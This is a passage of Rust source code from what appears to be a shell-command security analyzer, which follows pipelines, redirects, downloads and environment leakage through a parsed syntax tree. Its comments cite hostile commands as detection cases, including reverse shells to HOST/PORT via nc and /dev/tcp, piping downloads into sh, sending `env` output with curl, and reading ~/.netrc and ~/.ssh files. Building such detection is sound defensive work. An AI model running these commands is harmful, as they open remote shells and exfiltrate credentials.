//! Walks the syntax tree: lists, pipelines, compound commands, redirects and words, keeping
//! the variables and working directory a real shell would have at each point.

use brush_parser::ast;

use super::super::normalize;
use super::super::operation::{Context, Extracted, Operation};
use super::vars::{set_scalar, set_var, unset_var};
use super::{line, param, parse, word, MAX_DEPTH, MAX_WORK};
use crate::rules::Action;

/// What a command prints, as far as it is known, so that `echo … | base64 -d | sh`, `$(…)`
/// and here-docs can be followed into the command that consumes them.
#[derive(Clone, Debug, Default)]
#[expect(
    clippy::struct_excessive_bools,
    reason = "independent facts about one output, each read on its own"
)]
pub(super) struct Feed {
    /// Text known to be printed (echo, printf, here-docs, decoders, `cat` of its stdin).
    pub text: Vec<String>,
    /// Paths (often globs) whose names are printed (`ls DIR`, `find DIR`), for `xargs`.
    pub names: Vec<String>,
    /// The bytes came from the network (`flow`).
    pub downloaded: bool,
    /// `text` stands for what was printed without being it (a filter's input: `grep`,
    /// `awk`, `cut` of known text): code in it runs, but it is no value.
    pub approximate: bool,
    /// The bytes hold the process environment (`env`, `printenv`, `/proc/self/environ`),
    /// where API keys and tokens live.
    pub environment: bool,
    /// The last text printed ended without a newline (`printf '%s' x`, `echo -n x`): what
    /// the next command prints continues that line (`$(printf ~/.ne; printf trc)`).
    pub open_end: bool,
}

impl Feed {
    pub fn text(s: impl Into<String>) -> Self {
        Self {
            text: vec![s.into()],
            ..Self::default()
        }
    }

    pub fn joined(&self) -> String {
        self.text.join("\n")
    }

    pub fn is_empty(&self) -> bool {
        self.text.is_empty() && self.names.is_empty()
    }

    pub fn extend(&mut self, other: Self) {
        // Output that printed nothing leaves the line as it was.
        if !other.text.is_empty() {
            let mut more = other.text.into_iter();
            if self.open_end && !self.text.is_empty() {
                if let (Some(last), Some(first)) = (self.text.last_mut(), more.next()) {
                    last.push_str(&first);
                }
            }
            self.text.extend(more);
            self.open_end = other.open_end;
        }
        self.names.extend(other.names);
        self.downloaded |= other.downloaded;
        self.approximate |= other.approximate;
        self.environment |= other.environment;
    }
}

pub(super) struct Walker<'o> {
    pub out: &'o mut Extracted,
    work: usize,
    exhausted: bool,
    /// Output of process substitutions, by the `/dev/fd/N` name the command sees.
    pub fd_feeds: Vec<(String, Feed)>,
    /// `alias NAME=VALUE` definitions seen so far.
    pub aliases: Vec<(String, String)>,
    /// `git config KEY VALUE` settings seen so far, as `KEY=VALUE`: later git commands of
    /// the line run with them (`git config alias.fp 'push -f' && git fp`).
    pub git_config: Vec<String>,
    /// Running on the caller's own stack (see `super::extract`): every text parsed must be
    /// light enough for it.
    inline: bool,
    /// Inline, a text that is not light was met: the walk stopped and must be redone on an
    /// analysis thread.
    pub escalate: bool,
    /// Where downloaded bytes went so far.
    pub flow: super::taint::Flow,
    /// Functions defined so far, by name: a call walks the body with its arguments.
    pub functions: Vec<(String, ast::FunctionBody)>,
    /// Files this command wrote with known content (`echo 'cat ~/.netrc' > /tmp/s`), by
    /// absolute path: a later `source`, `sh FILE`, `./FILE`, `< FILE` or `cat FILE` in
    /// the same command reads that content.
    pub files: Vec<(String, Feed)>,
    /// The names the last substitution without known text printed (`$(find ~/.aws)`): a
    /// word that is that substitution alone stands for them.
    sub_names: Vec<String>,
    /// How the next command's name is looked up.
    pub lookup: Lookup,
    /// Programs under other names (`hash -p /bin/rm x`, `ln -s /bin/rm x`): the name or
    /// absolute path, and the program it runs (see `resolve`).
    pub binaries: Vec<(String, String)>,
    /// Variables `${x:=v}` assigned while the current command's words were expanded; the
    /// shell keeps them once the command is done with its words.
    defaults: Vec<(String, String)>,
    /// The known text of the stdin that commands without one of their own read (see
    /// `with_stdin`).
    pub stdin_text: Vec<String>,
    /// Which of `CDPATH`'s directories a `cd NAME` looked up there lands in, this walk
    /// (see `super::walk_every_cd`).
    pub cd_pick: usize,
    /// The most directories one such `cd` could land in, met this walk.
    pub cd_choices: usize,
    /// Text that stood for a filter's output in a value (see `Feed::approximate`): a
    /// script whose text holds an unknown part (`eval "$(… | awk 1)"`) may be any of it.
    pub approximate: Vec<String>,
    /// Whether the current command's words hold a part whose value is not known.
    words: Words,
    /// Settings `pip config set` made in this command line, as `PIP_…` variables.
    pub pip_config: Vec<(String, String)>,
    /// Pipelines being walked a second time (see `pipeline`): at most one.
    rewalks: usize,
    /// Substitutions in the current command's words that printed the environment
    /// (`curl -d "$(env)" …`).
    pub env_words: usize,
    /// Links this command made, as (link, target) absolute paths: what is written or
    /// deleted through one lands on its target (`ln -s ~/.bashrc rc && echo … >> rc`).
    pub links: Vec<(String, String)>,
    /// What inline code printed (`print('cat ~/.ssh/config')`), for its interpreter's
    /// output: a shell reading it runs it.
    pub printed: Vec<String>,
}

/// What the analysis knows of the current command's words.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Words {
    Known,
    /// Some part of them is not known (an output, a value read from a filter).
    PartlyUnknown,
}

impl<'o> Walker<'o> {
    pub fn new(out: &'o mut Extracted) -> Self {
        Self {
            out,
            work: 0,
            exhausted: false,
            fd_feeds: Vec::new(),
            aliases: Vec::new(),
            git_config: Vec::new(),
            inline: false,
            escalate: false,
            flow: super::taint::Flow::default(),
            functions: Vec::new(),
            files: Vec::new(),
            sub_names: Vec::new(),
            lookup: Lookup::Functions,
            binaries: Vec::new(),
            defaults: Vec::new(),
            stdin_text: Vec::new(),
            cd_pick: 0,
            cd_choices: 1,
            approximate: Vec::new(),
            words: Words::Known,
            pip_config: Vec::new(),
            rewalks: 0,
            env_words: 0,
            links: Vec::new(),
            printed: Vec::new(),
        }
    }

    /// A walker for the caller's thread: it stops (setting `escalate`) at the first text
    /// that is not [`parse::light`].
    pub fn inline(out: &'o mut Extracted) -> Self {
        Self {
            inline: true,
            ..Self::new(out)
        }
    }

    /// Counts work; false (once reported) when the call has become too expensive to follow.
    pub fn spend(&mut self, units: usize) -> bool {
        if self.escalate {
            return false;
        }
        self.work += units;
        if self.work > MAX_WORK && !self.exhausted {
            self.exhausted = true;
            self.out
                .unparsable("the shell command is too complex to analyse (work limit reached)");
        }
        !self.exhausted
    }

    /// Parses and walks a piece of shell text: the command line itself, or text found inside
    /// it that a shell would run (`sh -c`, `eval`, substitutions, decoded payloads).
    pub fn script(&mut self, src: &str, ctx: &mut Context, depth: usize) -> Feed {
        if depth > MAX_DEPTH {
            self.out.unparsable(format!(
                "the shell command is nested too deep (more than {MAX_DEPTH} levels of sh -c, eval, substitutions or wrappers)"
            ));
            return Feed::default();
        }
        if !self.spend(1) {
            return Feed::default();
        }
        let src = normalize::text(src);
        if self.inline && !parse::light(&src) {
            self.escalate = true;
            return Feed::default();
        }
        if depth > 0 {
            self.out.text(src.as_str());
        }
        match parse::program(&src) {
            Ok(program) => {
                let mut feed = Feed::default();
                for list in &program.complete_commands {
                    feed.extend(self.list(list, ctx, depth));
                }
                feed
            }
            Err(why) => {
                self.out
                    .unparsable(format!("the shell command could not be parsed: {why}"));
                self.out.command(normalize::words(&src));
                self.rough(&src, ctx, depth);
                Feed::default()
            }
        }
    }

    /// Operations from a whitespace split, for text the parser refused.
    pub fn rough(&mut self, src: &str, ctx: &mut Context, depth: usize) {
        let spaced = src.replace('>', " > ").replace('<', " < ");
        for words in parse::rough_commands(&spaced) {
            let mut args = Vec::new();
            let mut it = words.into_iter();
            while let Some(w) = it.next() {
                match w.as_str() {
                    ">" => {
                        if let Some(target) = it.next().filter(|t| t != ">") {
                            self.path_op(Action::Write, &target, ctx, None);
                        }
                    }
                    "<" => {
                        if let Some(target) = it.next() {
                            self.path_op(Action::Read, &target, ctx, None);
                        }
                    }
                    _ => args.push(w),
                }
            }
            if !args.is_empty() && depth < MAX_DEPTH {
                // The text did not parse, so nothing in it is re-parsed as a command: only
                // the command table's view of these words.
                self.run(&args, ctx, depth + 1, Feed::default());
            }
        }
    }

    fn list(&mut self, list: &ast::CompoundList, ctx: &mut Context, depth: usize) -> Feed {
        let mut feed = Feed::default();
        for item in &list.0 {
            if matches!(item.1, ast::SeparatorOperator::Async) {
                // `cd DIR & cmd`: a background job runs in a subshell of its own.
                let mut sub = ctx.clone();
                feed.extend(self.and_or(&item.0, &mut sub, depth));
            } else {
                feed.extend(self.and_or(&item.0, ctx, depth));
            }
        }
        feed
    }

    fn and_or(&mut self, list: &ast::AndOrList, ctx: &mut Context, depth: usize) -> Feed {
        let mut feed = self.pipeline(&list.first, ctx, depth);
        for next in &list.additional {
            let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
            feed.extend(self.pipeline(p, ctx, depth));
        }
        feed
    }

    fn pipeline(&mut self, p: &ast::Pipeline, ctx: &mut Context, depth: usize) -> Feed {
        if let [only] = p.seq.as_slice() {
            let stdin = self.inherited_stdin();
            return self.command(only, ctx, depth, stdin);
        }
        // The pipeline as one line, so that command rules like `curl … | sh` can match.
        let mut line = String::new();
        let mut scratch = String::new();
        for (i, c) in p.seq.iter().enumerate() {
            if i > 0 {
                line.push_str(" | ");
            }
            line::push_part(&mut line, c, &mut scratch);
        }
        self.out.command(line);
        // Each part of a pipeline runs in a subshell: `cd` in one does not move the others.
        // Downloaded bytes taint every later part: `curl … | grep … | sh` runs them. The
        // first part reads the enclosing shell's stdin.
        let files_before = self.flow.downloads.len();
        let feed = self.pipeline_parts(p, ctx, depth);
        // The parts run at once: a file a later part fills from the network is read by an
        // earlier one (the fifo of `cat f | sh -i 2>&1 | nc HOST PORT > f`). Once such a file
        // is known, the parts are walked again, once, with it.
        if self.flow.downloads.len() > files_before && self.rewalks == 0 {
            self.rewalks += 1;
            let again = self.pipeline_parts(p, ctx, depth);
            self.rewalks -= 1;
            return again;
        }
        feed
    }

    /// Each part of a pipeline in order, the output of one the input of the next.
    fn pipeline_parts(&mut self, p: &ast::Pipeline, ctx: &Context, depth: usize) -> Feed {
        let mut feed = self.inherited_stdin();
        let mut downloaded = false;
        // The environment stays in the bytes through filters (`env | base64 | curl …`).
        let mut environment = false;
        for c in &p.seq {
            let mut sub = ctx.clone();
            feed.downloaded |= downloaded;
            feed.environment |= environment;
            let input = feed.environment;
            feed = self.command(c, &mut sub, depth, feed);
            downloaded |= feed.downloaded;
            environment |= input || feed.environment;
        }
        feed.environment |= environment;
        feed
    }

    fn command(&mut self, c: &ast::Command, ctx: &mut Context, depth: usize, stdin: Feed) -> Feed {
        if !self.spend(1) {
            return Feed::default();
        }
        let feed = self.command_kind(c, ctx, depth, stdin);
        self.keep_defaults(ctx);
        feed
    }

    fn command_kind(
        &mut self,
        c: &ast::Command,
        ctx: &mut Context,
        depth: usize,
        stdin: Feed,
    ) -> Feed {
        match c {
            ast::Command::Simple(s) => self.simple(s, ctx, depth, stdin),
            ast::Command::Compound(cc, redirects) => {
                let redirects: Vec<&ast::IoRedirect> =
                    redirects.iter().flat_map(|r| r.0.iter()).collect();
                let stdin = self
                    .redirect_inputs(&redirects, ctx, depth)
                    .unwrap_or(stdin);
                let opened = self.open_descriptors(&redirects, ctx, depth);
                // Every command inside reads the group's stdin unless given another.
                let feed = self.with_stdin(&stdin.clone(), |w| w.compound(cc, ctx, depth, stdin));
                close_descriptors(ctx, opened);
                self.redirect_outputs(&redirects, ctx, depth, &feed)
            }
            ast::Command::Function(f) => {
                // Walking the body at the definition covers calls whose arguments are not
                // known; a call walks it again with its own (`call_function`).
                self.functions.retain(|(n, _)| *n != f.fname.value);
                self.functions.push((f.fname.value.clone(), f.body.clone()));
                let mut sub = ctx.clone();
                let redirects: Vec<&ast::IoRedirect> =
                    f.body.1.iter().flat_map(|r| r.0.iter()).collect();
                let feed = self.compound(&f.body.0, &mut sub, depth, Feed::default());
                self.redirect_outputs(&redirects, &mut sub, depth, &feed);
                Feed::default()
            }
            ast::Command::ExtendedTest(test, _) => {
                self.test_expr(&test.expr, ctx, depth);
                Feed::default()
            }
        }
    }

    fn test_expr(&mut self, e: &ast::ExtendedTestExpr, ctx: &mut Context, depth: usize) {
        match e {
            ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
                self.test_expr(a, ctx, depth);
                self.test_expr(b, ctx, depth);
            }
            ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
                self.test_expr(a, ctx, depth);
            }
            ast::ExtendedTestExpr::UnaryTest(_, w) => {
                self.words(&w.value, ctx, depth);
            }
            ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
                self.words(&a.value, ctx, depth);
                self.words(&b.value, ctx, depth);
            }
        }
    }

    fn compound(
        &mut self,
        c: &ast::CompoundCommand,
        ctx: &mut Context,
        depth: usize,
        stdin: Feed,
    ) -> Feed {
        match c {
            ast::CompoundCommand::BraceGroup(g) => self.list_with_stdin(&g.list, ctx, depth, stdin),
            ast::CompoundCommand::Subshell(s) => {
                let mut sub = ctx.clone();
                self.list_with_stdin(&s.list, &mut sub, depth, stdin)
            }
            ast::CompoundCommand::ForClause(f) => {
                let values: Vec<String> = f
                    .values
                    .iter()
                    .flatten()
                    .flat_map(|w| self.words(&w.value, ctx, depth))
                    .collect();
                let mut feed = Feed::default();
                if values.is_empty() {
                    feed.extend(self.list(&f.body.list, ctx, depth));
                }
                // Walk the body once per value (bounded by the work budget), so that
                // `for f in id_rsa config; do cat ~/.ssh/$f; done` names each file.
                for v in values {
                    set_var(ctx, &f.variable_name, &v);
                    feed.extend(self.list(&f.body.list, ctx, depth));
                    if self.exhausted {
                        break;
                    }
                }
                feed
            }
            ast::CompoundCommand::ArithmeticForClause(f) => self.list(&f.body.list, ctx, depth),
            ast::CompoundCommand::CaseClause(c) => {
                self.words(&c.value.value, ctx, depth);
                let mut feed = Feed::default();
                for item in &c.cases {
                    for p in &item.patterns {
                        self.words(&p.value, ctx, depth);
                    }
                    if let Some(cmd) = &item.cmd {
                        feed.extend(self.list(cmd, ctx, depth));
                    }
                }
                feed
            }
            ast::CompoundCommand::IfClause(i) => {
                let mut feed = self.list(&i.condition, ctx, depth);
                feed.extend(self.list(&i.then, ctx, depth));
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        feed.extend(self.list(cond, ctx, depth));
                    }
                    feed.extend(self.list(&e.body, ctx, depth));
                }
                feed
            }
            ast::CompoundCommand::WhileClause(w) | ast::CompoundCommand::UntilClause(w) => {
                let mut feed = self.list_with_stdin(&w.0, ctx, depth, stdin);
                feed.extend(self.list(&w.1.list, ctx, depth));
                feed
            }
            ast::CompoundCommand::Arithmetic(a) => {
                // `(( x = $(cmd) ))` runs cmd.
                let expr = word::expand_heredoc(&a.expr.value, ctx, &mut |inner| {
                    self.substitution(inner, ctx, depth)
                });
                super::vars::arithmetic_assignments(&expr, ctx);
                Feed::default()
            }
            ast::CompoundCommand::Coprocess(c) => {
                let mut sub = ctx.clone();
                self.command(&c.body, &mut sub, depth, Feed::default())
            }
        }
    }

    /// A list whose first command reads the given stdin (`{ sh; } <<EOF`).
    fn list_with_stdin(
        &mut self,
        list: &ast::CompoundList,
        ctx: &mut Context,
        depth: usize,
        stdin: Feed,
    ) -> Feed {
        if stdin.is_empty() {
            return self.list(list, ctx, depth);
        }
        let mut feed = Feed::default();
        let mut stdin = Some(stdin);
        for item in &list.0 {
            let first = &item.0.first;
            if let (Some(input), [only]) = (stdin.take(), first.seq.as_slice()) {
                feed.extend(self.command(only, ctx, depth, input));
                for next in &item.0.additional {
                    let (ast::AndOr::And(p) | ast::AndOr::Or(p)) = next;
                    feed.extend(self.pipeline(p, ctx, depth));
                }
            } else {
                feed.extend(self.and_or(&item.0, ctx, depth));
            }
        }
        feed
    }

    fn simple(
        &mut self,
        c: &ast::SimpleCommand,
        ctx: &mut Context,
        depth: usize,
        stdin: Feed,
    ) -> Feed {
        let mut parts = Parts::default();
        let mut unresolved = false;
        self.words = Words::Known;
        self.env_words = 0;
        // The words are expanded before the command's own redirections are made: their
        // substitutions read the stdin the command came with (`… | eval "$(cat)"`).
        self.with_stdin(&stdin, |w| {
            for item in c.prefix.iter().flat_map(|p| p.0.iter()) {
                w.item(item, true, ctx, depth, &mut parts);
            }
            if let Some(name) = &c.word_or_name {
                let fields = w.words(&name.value, ctx, depth);
                unresolved = unresolved_command(&name.value, fields.first());
                parts.words.extend(fields);
            }
            for item in c.suffix.iter().flat_map(|s| s.0.iter()) {
                w.item(item, false, ctx, depth, &mut parts);
            }
        });
        let Parts {
            assignments,
            redirects,
            words,
            outputs,
        } = parts;
        // `cat ${p:=~/.netrc}`: p is set in this shell before the command runs.
        self.keep_defaults(ctx);
        for (name, value) in &assignments {
            self.environment_command(name, value, ctx, depth);
        }

        if words.is_empty() {
            // Plain assignments persist in this shell.
            for (name, value) in &assignments {
                set_var(ctx, name, value);
            }
            let input = self.redirect_inputs(&redirects, ctx, depth);
            // `$(< file)` prints the file: a download read so is downloaded still, and
            // known text (`$(< /dev/stdin)` of a here-string) is that text.
            let printed = input
                .clone()
                .filter(|f| (f.downloaded || !f.text.is_empty()) && assignments.is_empty())
                .unwrap_or_default();
            self.unresolved_runner(unresolved, &input.unwrap_or(stdin));
            return self.redirect_outputs(&redirects, ctx, depth, &printed);
        }
        let own_input = self.redirect_inputs(&redirects, ctx, depth);
        let kept = matches!(words.as_slice(), [only] if only == "exec");
        if let Some(input) = own_input.as_ref().filter(|_| kept) {
            // `exec < FILE`, `exec <<< TEXT`: the stdin of every later command of this
            // shell.
            self.stdin_text.clone_from(&input.text);
            self.flow.stdin |= input.downloaded;
        }
        let stdin = own_input.unwrap_or(stdin);
        self.unresolved_runner(unresolved, &stdin);
        // `exec 3< DIR` keeps the descriptor open in this shell; `cmd 3< DIR`, for cmd only.
        let opened = self.open_descriptors(&redirects, ctx, depth);
        // What a command makes of downloaded bytes is downloaded bytes still; of the
        // environment, the environment still (`tr '\0' '\n' < /proc/self/environ`).
        let tainted = stdin.downloaded;
        let environment = stdin.environment;
        let mut feed = if assignments.is_empty() {
            self.run(&words, ctx, depth, stdin)
        } else {
            // `VAR=x cmd`: the command's environment only.
            let mut sub = ctx.clone();
            for (name, value) in &assignments {
                set_var(&mut sub, name, value);
            }
            // `HOME=/tmp cat ~/.netrc`: the shell expanded `~` with its own HOME before
            // the command's environment was set.
            let words = if sub.home == ctx.home {
                words
            } else {
                words
                    .into_iter()
                    .map(|w| match w.strip_prefix('~') {
                        Some(rest) if rest.is_empty() || rest.starts_with('/') => {
                            format!("{}{rest}", ctx.home)
                        }
                        _ => w,
                    })
                    .collect()
            };
            let feed = self.run(&words, &mut sub, depth, stdin);
            ctx.cwd = sub.cwd;
            // Builtins and functions that set variables (`IFS=: read -r a b`) set them in
            // this shell; only the prefix assignments themselves were temporary. HOME and
            // PWD are the context's own fields, moved by `cd` and assignments, not copied
            // back. Other commands run in a process of their own: nothing to copy.
            let sets_variables = words.first().is_some_and(|w| {
                SETS_VARIABLES.contains(&w.as_str()) || self.functions.iter().any(|(n, _)| n == w)
            });
            for (k, v) in sub.env.into_iter().filter(|_| sets_variables) {
                if !assignments.iter().any(|(n, _)| *n == k)
                    && !matches!(k.as_str(), "HOME" | "PWD")
                    && ctx.var(&k) != Some(v.as_str())
                {
                    set_scalar(ctx, &k, &v);
                }
            }
            feed
        };
        if !kept {
            close_descriptors(ctx, opened);
        }
        feed.downloaded |= tainted;
        feed.environment |= environment;
        self.output_substitutions(&outputs, ctx, depth);
        self.redirect_outputs(&redirects, ctx, depth, &feed)
    }

    /// A command word the analysis cannot name (`"$SHELL"`, `$(command -v bash)`,
    /// `/???/ba?h`) reading downloaded bytes may well be a shell: taken as one.
    fn unresolved_runner(&mut self, unresolved: bool, stdin: &Feed) {
        if unresolved && stdin.downloaded {
            self.runs_download("sh", super::taint::Reach::Stdin);
        }
    }

    /// `>(…)` given to a command as a file name: walked once the command has run, reading
    /// what the command wrote there (`tee >(sh)` of a download runs it).
    fn output_substitutions(
        &mut self,
        outputs: &[(String, &ast::SubshellCommand)],
        ctx: &Context,
        depth: usize,
    ) {
        for (name, sub) in outputs {
            let downloaded =
                normalize::shell_path(name, ctx).is_some_and(|p| self.holds_download(&p));
            let stdin = Feed {
                downloaded,
                ..Feed::default()
            };
            let mut inner = ctx.clone();
            self.with_stdin(&stdin.clone(), |w| {
                w.list_with_stdin(&sub.list, &mut inner, depth, stdin)
            });
        }
    }

    fn item<'a>(
        &mut self,
        item: &'a ast::CommandPrefixOrSuffixItem,
        in_prefix: bool,
        ctx: &mut Context,
        depth: usize,
        parts: &mut Parts<'a>,
    ) {
        match item {
            ast::CommandPrefixOrSuffixItem::IoRedirect(r) => parts.redirects.push(r),
            ast::CommandPrefixOrSuffixItem::Word(w) => {
                parts.words.extend(self.words(&w.value, ctx, depth));
            }
            ast::CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                if !in_prefix {
                    // `export X=…` and the like: the builtin sees the expanded word.
                    parts.words.extend(self.words(&w.value, ctx, depth));
                    return;
                }
                let mut value = self.assignment_value(&a.value, ctx, depth);
                if let ast::AssignmentValue::Scalar(w) = &a.value {
                    // `X=~/.aws`: an unquoted leading tilde expands in an assignment too.
                    if w.value.starts_with('~') && value.starts_with('~') {
                        if let Some(p) = normalize::shell_path(&value, ctx) {
                            value = p;
                        }
                    }
                }
                let name = match &a.name {
                    ast::AssignmentName::VariableName(name) => name.clone(),
                    ast::AssignmentName::ArrayElementName(name, index) => {
                        let index = self.word_one(index, ctx, depth);
                        if param::is_assoc(ctx, name) {
                            let name = format!("{name}[{index}]");
                            parts.assignments.push((name, value));
                            return;
                        }
                        match param::arithmetic(&index, ctx).and_then(|i| usize::try_from(i).ok()) {
                            Some(i) => param::element_name(name, i),
                            None => return,
                        }
                    }
                };
                if a.append {
                    // `p+=/credentials` appends to the value.
                    value.insert_str(0, ctx.var(&name).unwrap_or(""));
                }
                parts.assignments.push((name, value));
            }
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(
                ast::ProcessSubstitutionKind::Write,
                sub,
            ) => {
                let name = self.fd_name(Feed::default());
                parts.outputs.push((name.clone(), sub));
                parts.words.push(name);
            }
            ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, sub) => {
                let name = self.process_substitution(kind, sub, ctx, depth);
                parts.words.push(name);
            }
        }
    }

    fn assignment_value(
        &mut self,
        value: &ast::AssignmentValue,
        ctx: &mut Context,
        depth: usize,
    ) -> String {
        match value {
            ast::AssignmentValue::Scalar(w) => self.word_one(&w.value, ctx, depth),
            // Elements are words: each may expand to several (`a=(~/.aws/*)`).
            ast::AssignmentValue::Array(items) => items
                .iter()
                .flat_map(|(_, w)| self.words(&w.value, ctx, depth))
                .collect::<Vec<_>>()
                .join(&param::ELEMENT_BREAK.to_string()),
        }
    }

    fn process_substitution(
        &mut self,
        kind: &ast::ProcessSubstitutionKind,
        sub: &ast::SubshellCommand,
        ctx: &mut Context,
        depth: usize,
    ) -> String {
        let mut inner = ctx.clone();
        let outer = std::mem::take(&mut self.defaults);
        let feed = self.list(&sub.list, &mut inner, depth);
        self.defaults = outer;
        match kind {
            ast::ProcessSubstitutionKind::Read => self.fd_name(feed),
            ast::ProcessSubstitutionKind::Write => self.fd_name(Feed::default()),
        }
    }

    /// The `/dev/fd/N` name of a new process substitution that prints `feed`.
    fn fd_name(&mut self, feed: Feed) -> String {
        let name = format!("/dev/fd/{}", 63 - self.fd_feeds.len().min(50));
        self.fd_feeds.push((name.clone(), feed));
        name
    }

    /// Here-docs and here-strings become the command's stdin; `<` files are read.
    fn redirect_inputs(
        &mut self,
        redirects: &[&ast::IoRedirect],
        ctx: &mut Context,
        depth: usize,
    ) -> Option<Feed> {
        let mut stdin = None;
        for r in redirects {
            match r {
                ast::IoRedirect::HereDocument(_, doc) => {
                    let body = if doc.requires_expansion {
                        word::expand_heredoc(&doc.doc.value, ctx, &mut |inner| {
                            self.substitution(inner, ctx, depth)
                        })
                    } else {
                        doc.doc.value.clone()
                    };
                    let body = normalize::text(&body);
                    self.out.text(body.as_str());
                    stdin = Some(text_feed(body));
                }
                ast::IoRedirect::HereString(_, w) => {
                    let mut body = self.word_one(&w.value, ctx, depth);
                    body.push('\n');
                    self.out.text(body.as_str());
                    stdin = Some(text_feed(body));
                }
                ast::IoRedirect::File(fd, kind, target) => match target {
                    ast::IoFileRedirectTarget::Filename(w) => {
                        if matches!(
                            kind,
                            ast::IoFileRedirectKind::Read | ast::IoFileRedirectKind::ReadAndWrite
                        ) {
                            for path in self.words(&w.value, ctx, depth) {
                                self.path_op(Action::Read, &path, ctx, None);
                                if fd.is_none_or(|fd| fd == 0) {
                                    if let Some(feed) = self.file_feed(&path, ctx) {
                                        stdin = Some(feed);
                                    } else if super::taint::is_stdin_path(&path) {
                                        // `$(< /dev/stdin)`: the stdin it came with.
                                        stdin = Some(self.inherited_stdin());
                                    }
                                }
                                if self.is_download(&path, ctx) {
                                    match fd {
                                        None | Some(0) => stdin = Some(downloaded_feed()),
                                        Some(n) => self.flow.download_fds.push(n.to_string()),
                                    }
                                }
                                // bash's network redirects: `sh < /dev/tcp/HOST/PORT`, or
                                // `exec 3<>/dev/tcp/…` read later through `<&3`.
                                if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
                                    match fd {
                                        None | Some(0) => stdin = Some(downloaded_feed()),
                                        Some(n) => self.flow.download_fds.push(n.to_string()),
                                    }
                                }
                            }
                        }
                    }
                    ast::IoFileRedirectTarget::ProcessSubstitution(k, sub) => {
                        let name = self.process_substitution(k, sub, ctx, depth);
                        match (fd, self.fd_feed(&name)) {
                            (None | Some(0), Some(feed)) => stdin = Some(feed),
                            // `exec 3< <(curl …)`, read later through `<&3`.
                            (Some(n), Some(feed)) if feed.downloaded => {
                                self.flow.download_fds.push(n.to_string());
                            }
                            _ => {}
                        }
                    }
                    ast::IoFileRedirectTarget::Duplicate(w)
                        if matches!(kind, ast::IoFileRedirectKind::DuplicateInput) =>
                    {
                        self.duplicate_input(fd.as_ref(), &w.value, ctx, depth, &mut stdin);
                    }
                    _ => {}
                },
                ast::IoRedirect::OutputAndError(..) => {}
            }
        }
        if self.socket_stdin(redirects, ctx, depth) {
            stdin = Some(downloaded_feed());
        }
        stdin
    }

    /// Whether the command's redirections leave a network socket on its stdin: bash's
    /// `/dev/tcp` reads as well as writes whatever the redirection's direction, so
    /// `bash -i >& /dev/tcp/HOST/PORT 0>&1` reads its commands from there.
    fn socket_stdin(
        &mut self,
        redirects: &[&ast::IoRedirect],
        ctx: &mut Context,
        depth: usize,
    ) -> bool {
        // Descriptors pointed at a socket so far.
        let mut sockets: Vec<String> = Vec::new();
        let mut stdin = false;
        for r in redirects {
            match r {
                ast::IoRedirect::OutputAndError(w, _)
                    if self.names_socket(&w.value, ctx, depth) =>
                {
                    sockets.extend(["1".to_owned(), "2".to_owned()]);
                }
                ast::IoRedirect::File(
                    fd,
                    ast::IoFileRedirectKind::Write
                    | ast::IoFileRedirectKind::Append
                    | ast::IoFileRedirectKind::Clobber,
                    ast::IoFileRedirectTarget::Filename(w),
                ) if self.names_socket(&w.value, ctx, depth) => {
                    sockets.push(fd.unwrap_or(1).to_string());
                }
                ast::IoRedirect::File(
                    fd,
                    ast::IoFileRedirectKind::ReadAndWrite,
                    ast::IoFileRedirectTarget::Filename(w),
                ) if self.names_socket(&w.value, ctx, depth) => {
                    sockets.push(fd.unwrap_or(0).to_string());
                }
                ast::IoRedirect::File(
                    fd,
                    kind @ (ast::IoFileRedirectKind::DuplicateOutput
                    | ast::IoFileRedirectKind::DuplicateInput),
                    ast::IoFileRedirectTarget::Duplicate(w),
                ) => {
                    let input = matches!(kind, ast::IoFileRedirectKind::DuplicateInput);
                    let to = fd.unwrap_or(i32::from(!input)).to_string();
                    for from in self.words(&w.value, ctx, depth) {
                        if !is_fd(&from) {
                            // `>& FILE` is `&> FILE`.
                            if is_socket_path(&from) {
                                sockets.extend(["1".to_owned(), "2".to_owned()]);
                            }
                        } else if sockets.contains(&from) || self.flow.download_fds.contains(&from)
                        {
                            if to == "0" {
                                stdin = true;
                            }
                            sockets.push(to.clone());
                        }
                    }
                }
                _ => {}
            }
        }
        stdin
    }

    /// Whether a redirection's target word is one of bash's network paths.
    fn names_socket(&mut self, word: &str, ctx: &mut Context, depth: usize) -> bool {
        self.words(word, ctx, depth)
            .iter()
            .any(|p| is_socket_path(p))
    }

    /// `<&WORD`: a path is read; a descriptor that reads a download is the command's
    /// stdin when it is fd 0.
    fn duplicate_input(
        &mut self,
        fd: Option<&i32>,
        word: &str,
        ctx: &mut Context,
        depth: usize,
        stdin: &mut Option<Feed>,
    ) {
        for path in self.words(word, ctx, depth) {
            if !is_fd(&path) {
                self.path_op(Action::Read, &path, ctx, None);
            } else if self.flow.download_fds.contains(&path) && fd.is_none_or(|f| *f == 0) {
                *stdin = Some(downloaded_feed());
            }
        }
    }

    /// Descriptors a command's redirections open on paths (`3< DIR`, `3<> FILE`) or copy
    /// (`4<&3`), and close (`3<&-`), recorded in `ctx` so that `/proc/self/fd/3/…` and
    /// `/dev/fd/3/…` resolve. Returns what each held before, for [`close_descriptors`].
    fn open_descriptors(
        &mut self,
        redirects: &[&ast::IoRedirect],
        ctx: &mut Context,
        depth: usize,
    ) -> Vec<(String, Option<String>)> {
        let mut before = Vec::new();
        for r in redirects {
            let ast::IoRedirect::File(Some(fd), kind, target) = r else {
                continue;
            };
            let opened = match (kind, target) {
                (
                    ast::IoFileRedirectKind::Read | ast::IoFileRedirectKind::ReadAndWrite,
                    ast::IoFileRedirectTarget::Filename(w),
                ) => self
                    .words(&w.value, ctx, depth)
                    .first()
                    .and_then(|p| normalize::shell_path(p, ctx)),
                (
                    ast::IoFileRedirectKind::DuplicateInput,
                    ast::IoFileRedirectTarget::Duplicate(w),
                ) => {
                    let from = self.word_one(&w.value, ctx, depth);
                    ctx.descriptor(&from).map(str::to_owned)
                }
                _ => continue,
            };
            let fd = fd.to_string();
